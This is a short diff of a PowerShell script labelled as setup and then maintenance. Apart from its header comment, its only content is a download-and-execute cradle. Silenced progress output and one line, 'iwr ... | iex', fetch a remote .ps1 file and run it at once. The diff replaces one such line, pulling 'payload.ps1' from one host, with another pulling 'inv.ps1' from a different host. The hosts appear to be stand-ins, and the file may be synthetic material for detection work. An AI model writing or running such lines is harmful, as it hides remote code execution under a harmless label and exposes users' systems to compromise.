@@ -1,3 +1,3 @@
-# setup 2899 v0
+# maintenance 8748 v0
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
+iwr -UseBasicParsing http://files.sync-svc.example/inv.ps1 | iex
